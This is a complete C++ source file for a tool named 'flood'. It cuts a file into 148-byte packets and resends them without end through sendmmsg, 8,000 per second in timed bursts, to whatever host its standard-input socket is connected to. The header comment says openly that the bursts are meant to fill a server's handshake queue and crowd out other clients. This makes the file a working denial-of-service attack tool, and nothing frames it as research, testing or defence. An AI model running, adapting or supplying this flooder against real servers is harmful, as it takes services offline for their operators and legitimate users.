// flood FILE MILLISECONDS: sends the packets of a file, 148 bytes each, over and over to where the
// socket on its standard input is connected: 8,000 a second, in bursts that far apart. Long bursts
// fill a server's queue of handshakes; short ones leave no moment to others.
#include <sys/socket.h>
#include <sys/uio.h>

#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <iterator>
#include <thread>
#include <vector>

namespace {

constexpr std::size_t packet_size = 148, packets_per_ms = 8;

std::vector<iovec> cut(std::vector<char>& bytes) {
  std::vector<iovec> packets;
  packets.reserve(bytes.size() / packet_size);
  for (std::size_t at = 0; at + packet_size <= bytes.size(); at += packet_size) {
    packets.push_back({&bytes[at], packet_size});
  }
  return packets;
}

}  // namespace

int main(int argc, char** argv) {
  std::ifstream file(argc == 3 ? argv[1] : "", std::ios::binary);
  std::vector<char> bytes{std::istreambuf_iterator<char>(file), {}};
  std::vector<iovec> packets = cut(bytes);
  const std::size_t gap_ms = argc == 3 ? std::strtoul(argv[2], nullptr, 10) : 0;
  if (packets.empty() || gap_ms == 0) {
    (void)std::fputs("usage: flood FILE MILLISECONDS <SOCKET\n", stderr);
    return 2;
  }
  const std::chrono::milliseconds gap{gap_ms};
  std::vector<mmsghdr> messages(gap_ms * packets_per_ms);
  std::size_t next = 0;
  for (auto due = std::chrono::steady_clock::now();; due += gap) {
    for (mmsghdr& message : messages) {
      message.msg_hdr.msg_iov = &packets[next++ % packets.size()];
      message.msg_hdr.msg_iovlen = 1;
    }
    // What one call does not take (ICMP errors of others, at most) is not missed.
    (void)sendmmsg(0, messages.data(), static_cast<unsigned>(messages.size()), 0);
    std::this_thread::sleep_until(due + gap);
  }
}
